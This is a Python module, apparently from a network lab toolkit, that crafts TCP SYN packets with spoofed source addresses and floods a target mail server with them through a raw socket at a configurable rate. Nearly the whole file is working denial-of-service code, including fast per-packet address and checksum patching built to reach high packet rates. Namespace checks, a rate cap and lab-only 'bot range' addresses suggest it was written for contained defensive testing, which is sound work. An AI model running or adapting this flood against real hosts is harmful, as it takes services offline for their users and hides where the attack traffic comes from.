"""Spoofed SYNs: the SYN builder (scapy's packet once, re-addressed per packet) and the `synflood` role that sends
them from random bot-range addresses through a raw socket, in a thread of its own."""

from __future__ import annotations

import asyncio
import math
import random
import socket
import struct
import threading
import time
from collections.abc import Sequence
from typing import Any

from govern_lab.addresses import BOT_RANGES
from govern_lab.traffic.counters import FLOOD_FIELDS, Timeline
from govern_lab.traffic.driver import drive, role_report
from govern_lab.traffic.host import check_namespace
from govern_lab.traffic.options import MAX_PPS, FloodOptions, TrafficError
from govern_lab.traffic.sources import check_common, family, host_span, resolve_sources


def _csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class SynCrafter:
    """SYNs to one destination, crafted once by scapy and then re-addressed per packet.

    scapy takes ~250 µs to build a packet here, which caps a flood near 4,000 pps; patching the source, port,
    sequence number and checksums of scapy's template costs a few µs. `scapy_packet` builds the same packet the
    slow way, for the tests to compare byte for byte.
    """

    def __init__(self, dst: str, port: int) -> None:
        self.dst = dst
        self.port = port
        self.version = family(dst)
        self.template = bytes(self.scapy_packet("0.0.0.0" if self.version == 4 else "::", 0, 0, 0))
        self.ip_len = 20 if self.version == 4 else 40
        self.dst_packed = socket.inet_pton(socket.AF_INET if self.version == 4 else socket.AF_INET6, dst)

    def scapy_packet(self, src: str, sport: int, seq: int, ident: int) -> bytes:
        from scapy.compat import raw
        from scapy.config import conf
        from scapy.layers.inet import IP, TCP
        from scapy.layers.inet6 import IPv6

        conf.verb = 0
        tcp = TCP(sport=sport, dport=self.port, flags="S", seq=seq, window=64240, options=[("MSS", 1460)])
        ip = IP(src=src, dst=self.dst, ttl=64, id=ident) if self.version == 4 else IPv6(src=src, dst=self.dst, hlim=64)
        return bytes(raw(ip / tcp))

    def packet(self, src: int, sport: int, seq: int, ident: int) -> bytes:
        p = bytearray(self.template)
        n = self.ip_len
        tcp_len = len(p) - n
        if self.version == 4:
            src_b = src.to_bytes(4, "big")
            p[4:6] = ident.to_bytes(2, "big")
            p[12:16] = src_b
            p[10:12] = b"\0\0"
            p[10:12] = _csum(bytes(p[:20])).to_bytes(2, "big")
            pseudo = src_b + self.dst_packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, tcp_len)
        else:
            src_b = src.to_bytes(16, "big")
            p[8:24] = src_b
            pseudo = src_b + self.dst_packed + struct.pack("!I3xB", tcp_len, socket.IPPROTO_TCP)
        p[n : n + 2] = sport.to_bytes(2, "big")
        p[n + 4 : n + 8] = seq.to_bytes(4, "big")
        p[n + 16 : n + 18] = b"\0\0"
        p[n + 16 : n + 18] = _csum(pseudo + bytes(p[n:])).to_bytes(2, "big")
        return bytes(p)


def _flood(
    targets: Sequence[tuple[SynCrafter, socket.socket, Sequence[tuple[int, int]]]],
    pps: float,
    t0: float,
    duration: float,
    limit: int,
    seed: int,
    stop: threading.Event,
    tl: Timeline,
) -> None:
    """Send SYNs at `pps` until `duration`, `limit` packets or `stop`; runs in a thread of its own."""
    rng = random.Random(seed)
    tries = 0
    while not stop.is_set():
        elapsed = time.monotonic() - t0
        if elapsed >= duration or tries >= limit:
            return
        due = min(limit, int(elapsed * pps) + 1)
        while tries < due:
            crafter, sock, spans = targets[rng.randrange(len(targets))]
            first, size = spans[rng.randrange(len(spans))]
            pkt = crafter.packet(first + rng.randrange(size), rng.randrange(1024, 65536), rng.getrandbits(32), 0)
            tries += 1
            try:
                sock.sendto(pkt, (crafter.dst, 0))
            except OSError as exc:
                tl.error(exc)
                continue
            tl.add("sent")
            tl.add("bytes_sent", len(pkt))
            if tries % 256 == 0 and (stop.is_set() or time.monotonic() - t0 >= duration):
                return
        time.sleep(min(0.005, max(0.0, (due + 1) / pps - (time.monotonic() - t0))))


async def synflood(opts: FloodOptions, stop: asyncio.Event | None = None) -> dict[str, Any]:
    """Spoofed SYNs from random addresses of `sources` (bot ranges only) to the MX at `pps`; no handshake."""
    check_namespace()
    check_common(opts)
    if not 0 < opts.pps <= MAX_PPS:
        raise TrafficError(f"--pps must be more than 0 and at most {MAX_PPS}")
    nets = resolve_sources("synflood", opts, BOT_RANGES)
    targets: list[tuple[SynCrafter, socket.socket, Sequence[tuple[int, int]]]] = []
    socks: list[socket.socket] = []
    try:
        for dst in dict.fromkeys(opts.dst):
            spans = [host_span(n) for n in nets if n.version == family(dst)]
            if not spans:
                continue
            fam = socket.AF_INET if family(dst) == 4 else socket.AF_INET6
            # IPPROTO_RAW: the packet goes out as written (IPv4 and IPv6 headers included), routed by the kernel.
            sock = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
            socks.append(sock)
            targets.append((SynCrafter(dst, opts.port), sock, spans))
        limit = math.ceil(opts.pps * opts.duration)
        t0, wall = time.monotonic(), time.time()
        tl = Timeline(FLOOD_FIELDS, t0, opts.duration, gauge=False)
        halt = threading.Event()

        async def body() -> None:
            thread = threading.Thread(
                target=_flood, args=(targets, opts.pps, t0, opts.duration, limit, opts.seed, halt, tl), daemon=True
            )
            thread.start()
            try:
                while thread.is_alive():
                    await asyncio.sleep(0.05)
            finally:
                halt.set()
                thread.join(2.0)

        # The sending thread keeps to the duration itself; the loop's deadline is only the backstop.
        why, stopped_at = await drive(opts.duration + 0.5, stop, body(), halt.set)
        tl.freeze()  # after the thread has stopped: every packet it sent is counted
        if why == "finished":
            why, stopped_at = "duration", min(stopped_at, t0 + opts.duration)
        events, totals = tl.result()
        totals.update(
            pps_wanted=opts.pps,
            pps_sent=round(totals["sent"] / max(1e-3, stopped_at - t0), 1),
            packet_limit=limit,
        )
        return role_report("synflood", opts, t0, wall, (why, stopped_at), events, totals)
    finally:
        for s in socks:
            s.close()
